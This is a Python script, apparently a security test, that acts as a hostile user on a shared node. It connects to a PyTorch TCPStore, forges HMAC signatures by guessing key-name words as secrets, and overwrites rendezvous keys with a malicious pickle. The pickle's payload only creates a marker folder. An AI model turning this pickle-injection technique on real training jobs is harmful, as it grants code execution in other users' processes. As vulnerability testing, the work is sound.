"""Another user of the node who has found a port of a job, and writes a hostile pickle under every rendezvous key.

It signs the pickle with every word of the keys' names, in case one is the secret. If a word fits the signature of the
victim's own state, only that pickle is written, because a victim that reads a wrong signature ends.

Arguments: PORT MARKER. It prints the keys that it found, as JSON; the folder MARKER exists once a victim has unpickled.
"""

from __future__ import annotations

import base64
import binascii
import contextlib
import hmac
import json
import os
import pickle
import re
import sys
from datetime import timedelta

from torch.distributed import TCPStore  # type: ignore[attr-defined] # torch marks no exports

NOBODY = 65534
_NUM_MAC_BYTES = 32
_PLAIN_PICKLE = pickle.dumps(None)[:2]


class _Exploit:
    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.mkdir, (self.marker,)


def _signed(state: bytes, run_id: str) -> bytes:
    return hmac.digest(run_id.encode(), state, "sha256") + state


def _forgeries(state: bytes, words: set[str], exploit: bytes) -> list[bytes]:
    """Return what to write in place of a state: what its readers take, or else everything that they might take."""
    if state.startswith(_PLAIN_PICKLE):
        return [exploit]
    signed = {word: _signed(exploit, word) for word in words if word}
    fitting = [signed[word] for word in signed if _signed(state[_NUM_MAC_BYTES:], word) == state]
    return fitting or [*signed.values(), exploit]


def _decoded(value: bytes) -> bytes:
    try:
        return base64.b64decode(value, validate=True)
    except binascii.Error:  # an address or a port
        return b""


def main() -> None:
    port, marker = int(sys.argv[1]), sys.argv[2]
    os.setresgid(NOBODY, NOBODY, NOBODY)
    os.setresuid(NOBODY, NOBODY, NOBODY)
    try:
        store = TCPStore("127.0.0.1", port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=5))
        keys = store.list_keys()
    except RuntimeError:  # the job ended, because of the attack on its other port
        sys.stdout.write("[]")
        return
    exploit = pickle.dumps(_Exploit(marker))
    words = {word for key in keys for word in [key, *re.split(r"[/.]", key)]}  # one of them may be the rendezvous id
    for key in keys:
        if "torch.rendezvous" in key:
            with contextlib.suppress(RuntimeError):  # the job has ended
                for state in _forgeries(_decoded(store.get(key)), words, exploit):
                    store.set(key, base64.b64encode(state).decode())
    sys.stdout.write(json.dumps(keys))


if __name__ == "__main__":
    main()
